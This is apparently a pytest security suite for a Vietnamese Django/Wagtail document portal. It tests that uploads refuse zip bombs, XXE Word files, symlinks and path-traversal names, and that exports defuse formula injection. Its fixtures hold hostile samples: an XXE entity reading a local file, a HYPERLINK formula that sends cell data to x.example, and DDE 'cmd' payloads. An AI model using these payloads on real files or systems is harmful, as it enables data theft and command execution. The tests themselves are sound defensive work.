"""Hostile files: what the importers are given, and what the exports give back.

Documents (`import_document` and the "Nhập văn bản" screen): a file that is too large, random
bytes, a Word file cut off or damaged inside, a zip bomb or a Word file declaring an external
entity (XXE) is refused with the reason in Vietnamese (400 on the screen, a non-zero exit for
the command) and nothing is written; a file name never becomes a path. Member sheets
(`import_members` and its screen) keep cells that look like formulas as text. Every CSV and
spreadsheet the portal offers, Wagtail's own reports included, gives back cells that start with
= + - @, a tab or a carriage return as text ("'=…"); the Word report has no fields.
"""

import csv
import io
import random
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.test import Client
from django.urls import URLResolver, get_resolver, reverse
from django.utils import timezone
from docx import Document
from openpyxl import Workbook, load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import Page, PageLogEntry, Revision, Workflow

from portal.models import User
from resolutions.importer.readers import MAX_FILE_BYTES
from resolutions.models import Acknowledgement, Comment, PartyDocumentPage
from tests import factories
from tests.test_acknowledgement import post_acknowledgement
from tests.test_importer import FIXTURES, word_document, zip_bomb

pytestmark = pytest.mark.django_db

SECRET = "MAT-KHAU-MAY-CHU-0123"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://x.example/?d="&A1,"Bấm vào đây")'
COMMAND = "+cmd|' /C calc'!A0"
ARITHMETIC = "-1+1"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
# Opened where ";" separates cells (a decimal-comma locale), this is two cells, one a formula.
SEPARATED = "Đã đọc;=1+1"
FORMULA_AFTER_A_SEPARATOR = re.compile(r";[=+\-@\t\r]")


# -- documents --------------------------------------------------------------------------------


def rewrite(data, name, change):
    """The archive with member `name` changed by `change(bytes) -> bytes`."""
    source, buffer = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = source.read(item.filename)
            target.writestr(item.filename, change(content) if item.filename == name else content)
    return buffer.getvalue()


def with_external_entity(secret_path):
    def declare(xml):
        doctype = f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file://{secret_path}">]>'
        xml = xml.replace(b"<w:document", doctype.encode() + b"<w:document", 1)
        return xml.replace(b"<w:t>", b"<w:t>&xxe;", 1)

    return rewrite(word_document(), "word/document.xml", declare)


def damaged_inside():
    """A Word file whose compressed text is garbled (bit rot, a bad copy)."""
    data = bytearray(word_document())
    item = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo("word/document.xml")
    start = item.header_offset + 30 + len(item.filename.encode()) + len(item.extra)
    for index in range(start + 40, start + 80):
        data[index] ^= 0x5A
    return bytes(data)


NOISE = random.Random(10).randbytes(20_000)
HOSTILE = {
    # name: (content, what the refusal says)
    "qua-lon.txt": (lambda _s: b"a" * (MAX_FILE_BYTES + 1), "lớn hơn 10 MB"),
    "ngau-nhien.txt": (lambda _s: NOISE, "UTF-8"),
    "ngau-nhien.docx": (lambda _s: NOISE, "không phải là tệp Word"),
    "cat-ngang.docx": (lambda _s: word_document()[:6000], "bị hỏng"),
    "hong-ben-trong.docx": (lambda _s: damaged_inside(), "bị hỏng"),
    "bom.docx": (lambda _s: zip_bomb(), "bung ra"),
    "thuc-the-ngoai.docx": (with_external_entity, "bị hỏng"),
}


@pytest.fixture
def secret(tmp_path):
    """A file on the server that no document may pull in."""
    path = tmp_path / "bi-mat.txt"
    path.write_text(SECRET)
    return path


@pytest.fixture
def office(client):
    client.force_login(factories.editor())
    return client


def written():
    return Page.objects.count(), Revision.objects.count(), PageLogEntry.objects.count()


@pytest.mark.parametrize("name", HOSTILE)
def test_the_import_command_refuses_hostile_files_and_writes_nothing(name, tmp_path, secret):
    make, reason = HOSTILE[name]
    path = tmp_path / name
    path.write_bytes(make(secret))
    before, err = written(), io.StringIO()
    with pytest.raises(CommandError, match="1 trong 1 tệp không nhập được"):
        call_command("import_document", str(path), "--publish", stdout=io.StringIO(), stderr=err)
    assert f"Không nhập được “{path}”: " in err.getvalue()
    assert reason in err.getvalue() and SECRET not in err.getvalue()
    assert written() == before


@pytest.mark.parametrize("name", HOSTILE)
def test_the_import_screen_refuses_hostile_files_and_writes_nothing(name, office, secret):
    make, reason = HOSTILE[name]
    before = written()
    response = office.post(
        reverse("import_documents"),
        {"files": [SimpleUploadedFile(name, make(secret))], "parent": factories.library().pk},
    )
    assert response.status_code == 400
    html = response.content.decode()
    assert f"“{name}”: " in html and reason in html and SECRET not in html
    assert written() == before


def test_a_folder_with_hostile_files_imports_the_others(tmp_path, secret):
    folder = tmp_path / "van-ban"
    folder.mkdir()
    for name, (make, _reason) in HOSTILE.items():
        (folder / name).write_bytes(make(secret))
    (folder / "tot.txt").write_text((FIXTURES / "flattened_header.txt").read_text("utf-8"))
    with pytest.raises(CommandError, match=f"{len(HOSTILE)} trong {len(HOSTILE) + 1} tệp"):
        call_command("import_document", str(folder), stdout=io.StringIO(), stderr=io.StringIO())
    assert PartyDocumentPage.objects.get().number == "07-NQ/ĐU"


def test_a_link_out_of_the_folder_is_not_followed(tmp_path):
    """A folder unpacked from an old site's archive may hold links to files elsewhere."""
    outside = tmp_path / "ngoai" / "nghi-quyet.txt"
    outside.parent.mkdir()
    outside.write_text((FIXTURES / "flattened_header.txt").read_text("utf-8"))
    folder = tmp_path / "van-ban"
    folder.mkdir()
    (folder / "lien-ket.txt").symlink_to(outside)
    before, err = written(), io.StringIO()
    with pytest.raises(CommandError, match="1 trong 1 tệp không nhập được"):
        call_command("import_document", str(folder), stdout=io.StringIO(), stderr=err)
    assert "lien-ket.txt" in err.getvalue() and "ngoài thư mục" in err.getvalue()
    assert written() == before


def upload_as_named(client, name, content):
    """Post one file to the import screen under exactly `name` (Django's test client would
    send only its last part, as browsers do; an attacker sends what they like)."""
    boundary = "ranh-gioi-thu-nghiem"
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="parent"\r\n\r\n'
        f"{factories.library().pk}\r\n".encode(),
        f'--{boundary}\r\nContent-Disposition: form-data; name="files"; filename="{name}"\r\n'
        "Content-Type: text/plain\r\n\r\n".encode()
        + content
        + b"\r\n",
        f"--{boundary}--\r\n".encode(),
    ]
    return client.post(
        reverse("import_documents"),
        b"".join(parts),
        content_type=f"multipart/form-data; boundary={boundary}",
    )


def test_a_file_name_never_becomes_a_path(office, tmp_path):
    text = (FIXTURES / "flattened_header.txt").read_text("utf-8").encode()
    target = tmp_path / "da-ghi.txt"
    response = upload_as_named(office, "../" * 12 + str(target).lstrip("/"), text)
    assert response.status_code == 200  # the review of what was found, under the bare name
    html = response.content.decode()
    assert 'value="da-ghi.txt"' in html and "../" not in html
    assert not target.exists() and not PartyDocumentPage.objects.exists()
    only_dots = upload_as_named(office, "../..", text)
    assert only_dots.status_code == 400 and "bắt buộc" in only_dots.content.decode()
    assert not PartyDocumentPage.objects.exists()


# -- member sheets ------------------------------------------------------------------------------

LOOKS_LIKE_FORMULAS = [HYPERLINK, COMMAND, ARITHMETIC, SUM]


def member_rows():
    return [
        (name, f"cong.thuc.{n}@example.vn", "Chi bộ Công thức", "", "", "")
        for n, name in enumerate(LOOKS_LIKE_FORMULAS)
    ]


HEADER = ("Họ và tên", "Email", "Chi bộ", "Chức vụ", "Trạng thái", "Điện thoại")


def members_csv():
    buffer = io.StringIO()
    csv.writer(buffer).writerows([HEADER, *member_rows()])
    return buffer.getvalue().encode("utf-8-sig")


def members_xlsx():
    """Text cells that look like formulas, and a real formula Excel saved with its value."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADER)
    for row in member_rows():
        sheet.append(row)
    for (cell,) in sheet.iter_rows(min_row=2, max_col=1):
        cell.data_type = "s"  # typed in as text ("'=HYPERLINK…" in Excel)
    sheet.append(['=CONCATENATE("Lê ","Văn Tính")', "tinh@example.vn", "Chi bộ Công thức"])
    buffer = io.BytesIO()
    workbook.save(buffer)

    def cached_value(xml):
        cell = b'<c r="A6"><f>'
        return xml.replace(cell, b'<c r="A6" t="str"><f>').replace(
            b"</f><v></v></c>", "</f><v>Lê Văn Tính</v></c>".encode()
        )

    return rewrite(buffer.getvalue(), "xl/worksheets/sheet1.xml", cached_value)


@pytest.fixture
def formula_cell():
    return factories.PartyCellFactory(name="Chi bộ Công thức")


@pytest.mark.parametrize(("name", "content"), [("a.csv", members_csv), ("a.xlsx", members_xlsx)])
def test_member_sheets_keep_formulas_as_text(client, formula_cell, name, content):
    client.force_login(factories.editor())
    response = client.post(reverse("import_members"), {"file": SimpleUploadedFile(name, content())})
    assert response.status_code == 200 and "Đã lưu" in response.content.decode()
    imported = set(User.objects.filter(party_cell=formula_cell).values_list("full_name", flat=True))
    expected = set(LOOKS_LIKE_FORMULAS) | ({"Lê Văn Tính"} if name.endswith("xlsx") else set())
    assert imported == expected


def test_the_member_import_command_keeps_formulas_as_text(tmp_path, formula_cell):
    path = tmp_path / "dang-vien.xlsx"
    path.write_bytes(members_xlsx())
    call_command("import_members", str(path), stdout=io.StringIO())
    assert User.objects.get(email="cong.thuc.3@example.vn").full_name == SUM
    assert User.objects.get(email="tinh@example.vn").full_name == "Lê Văn Tính"


# -- exports --------------------------------------------------------------------------------------


def export_views():
    """(URL name, view class) of every view in the URLconf that exports CSV/XLSX."""

    def walk(patterns, namespace=""):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
                yield from walk(pattern.url_patterns, inner)
            else:
                yield f"{namespace}{pattern.name}", pattern.callback

    for name, callback in walk(get_resolver().url_patterns):
        view = getattr(callback, "view_class", None)
        initkwargs = getattr(callback, "view_initkwargs", {})
        exported = view and initkwargs.get("list_export", getattr(view, "list_export", None))
        if exported and issubclass(view, SpreadsheetExportMixin):
            yield name, view


def cells_of(response, export_format):
    """Every cell of a CSV or XLSX download; formulas (XLSX) fail the test at once."""
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if export_format == "csv":
        return [
            cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row
        ]
    found = []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                found.append(cell.value)
    return found


@pytest.fixture
def hostile_data():
    """Fields that start like formulas wherever an export reads them."""
    tab_cell = factories.PartyCellFactory(name="\t=1+1 Chi bộ")
    cr_cell = factories.PartyCellFactory(name="\r=1+1 Chi bộ")
    # Usernames come from e-mail addresses, which may start with + or -.
    editor = factories.moderator(username="+bi.thu", full_name=SUM, party_cell=tab_cell)
    document = factories.document(
        title=HYPERLINK, audience="members", requires_acknowledgement=True
    )
    document.save_revision(user=editor).publish(user=editor)
    document.refresh_from_db()
    readers = {  # name, chi bộ, takeaway (with a control character a workbook cannot hold)
        COMMAND: (cr_cell, SUM + "\x0b thu hoạch"),
        ARITHMETIC: (tab_cell, HYPERLINK),
        "Lê Văn\x07 Chuông": (tab_cell, "Đã đọc\x1b kỹ"),
        "Trần Văn Chấm": (tab_cell, SEPARATED),
    }
    for name, (cell, takeaway) in readers.items():
        reader = factories.UserFactory(full_name=name, party_cell=cell)
        member = Client()
        member.force_login(reader)
        post_acknowledgement(member, document, takeaway=takeaway)
        factories.comment(document, reader, text=f"{takeaway}\x1b góp ý")
    assert Acknowledgement.objects.count() == Comment.objects.count() == len(readers)
    Page.objects.filter(pk=document.pk).update(
        locked=True, locked_by=editor, locked_at=timezone.now()
    )
    Workflow.objects.get(active=True).start(document, editor)
    Redirect.objects.create(old_path="/nghi-quyet-cu", redirect_link=ARITHMETIC)
    return document


EXPORTS = {
    # URL name: what must be in it, neutralised
    "wagtailadmin_reports:site_history": ["'" + HYPERLINK, "'" + SUM],
    "wagtailadmin_reports:aging_pages": ["'" + HYPERLINK, "'+bi.thu"],
    "wagtailadmin_reports:locked_pages": ["'" + HYPERLINK, "'" + SUM],
    "wagtailadmin_reports:workflow": ["'" + HYPERLINK, "'" + SUM],
    "wagtailadmin_reports:workflow_tasks": ["'" + HYPERLINK, "'" + SUM],
    "wagtailredirects:index": ["'" + ARITHMETIC],
    "acknowledgement_export": [
        "'" + COMMAND,
        "'" + ARITHMETIC,
        "'\t=1+1 Chi bộ",
        "'" + HYPERLINK,
        "Đã đọc;'=1+1",
    ],
}


def test_every_export_is_checked_here():
    views = {name.removesuffix("_results"): view for name, view in export_views()}
    assert set(views) == set(EXPORTS)


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize("name", EXPORTS)
def test_exports_give_formulas_back_as_text(client, hostile_data, name, export_format):
    client.force_login(factories.UserFactory(is_superuser=True))
    args = [hostile_data.pk] if name == "acknowledgement_export" else []
    response = client.get(reverse(name, args=args), {"export": export_format})
    assert response.status_code == 200
    cells = [cell for cell in cells_of(response, export_format) if isinstance(cell, str)]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    assert [cell for cell in cells if FORMULA_AFTER_A_SEPARATOR.search(cell)] == []
    for expected in EXPORTS[name]:
        assert any(cell.startswith(expected) for cell in cells), (expected, cells[:40])


def test_comment_exports_give_formulas_back_as_text(client, hostile_data):
    client.force_login(factories.editor())
    sheet = client.get(reverse("comment_moderation:export", args=[hostile_data.pk, "xlsx"]))
    cells = [cell for cell in cells_of(sheet, "xlsx") if isinstance(cell, str)]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    assert {"'" + HYPERLINK, "'" + COMMAND, "'" + ARITHMETIC} <= set(cells)
    report = client.get(reverse("comment_moderation:export", args=[hostile_data.pk, "docx"]))
    assert report.status_code == 200
    document = Document(io.BytesIO(report.content))
    text = "\n".join(paragraph.text for paragraph in document.paragraphs)
    assert COMMAND in text and SUM in text  # words in a letter, never fields
    xml = zipfile.ZipFile(io.BytesIO(report.content)).read("word/document.xml")
    assert b"instrText" not in xml and b"fldSimple" not in xml
